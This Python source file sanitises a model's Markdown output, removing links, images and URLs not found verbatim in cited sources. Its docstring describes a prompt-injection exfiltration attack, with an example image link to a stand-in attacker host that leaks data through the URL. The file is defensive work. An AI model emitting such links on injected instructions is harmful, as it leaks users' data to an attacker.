"""Keep a model's answer from carrying links the documents never gave it.

A prompt injection in a document can ask the model to write `![x](https://attacker/?d=…)`: a
client that renders Markdown fetches the image and leaks whatever the model put in the URL. So a
link, image or bare URL survives only when its URL appears verbatim in a source it may cite.
"""

from __future__ import annotations

import re

# ![alt](url "title") and [text](url "title"); the URL may sit in <...>.
_INLINE = re.compile(r"(?P<image>!?)\[(?P<label>[^\]\n]*)\]\(\s*<?(?P<url>[^)\s>]*)>?[^)\n]*\)")
# [text][ref] links and `[ref]: url` definitions (reference-style Markdown).
_DEFINITION = re.compile(r"(?m)^[ \t]*\[[^\]\n]+\]:[ \t]*<?(?P<url>\S+?)>?(?:[ \t]+.*)?$\n?")
# <https://...> autolinks and bare URLs (scheme:// or www.).
_AUTOLINK = re.compile(r"<(?P<url>[a-zA-Z][\w+.-]*:[^\s<>]+)>")
_BARE = re.compile(r"(?P<url>\b(?:[a-zA-Z][\w+.-]*://|www\.)[^\s<>()\[\]\"']+)")
_TRAILING = ".,;:!?'\"”’"


def _trusted(url: str, evidence: str) -> bool:
    url = url.rstrip(_TRAILING)
    return bool(url) and url in evidence


def remove_untrusted_links(text: str, evidence: str) -> tuple[str, list[str]]:
    """`text` without links, images or URLs that `evidence` does not hold verbatim, and what went.

    A link keeps its words (`[click here](…)` becomes `click here`); an image or a bare URL goes
    whole.
    """
    removed: list[str] = []

    def inline(match: re.Match[str]) -> str:
        if _trusted(match["url"], evidence):
            return match[0]
        removed.append(match["url"])
        return "" if match["image"] else match["label"]

    def whole(match: re.Match[str]) -> str:
        url = match["url"]
        if _trusted(url, evidence):
            return match[0]
        kept = url[len(url.rstrip(_TRAILING)) :]  # the sentence's own full stop stays
        removed.append(url.rstrip(_TRAILING))
        return kept

    text = _DEFINITION.sub(whole, text)
    text = _INLINE.sub(inline, text)
    text = _AUTOLINK.sub(whole, text)
    text = _BARE.sub(whole, text)
    if removed:
        text = re.sub(r"[ \t]{2,}", " ", text)
        text = re.sub(r"[ \t]+([.,;:!?])", r"\1", text)
    return text, removed
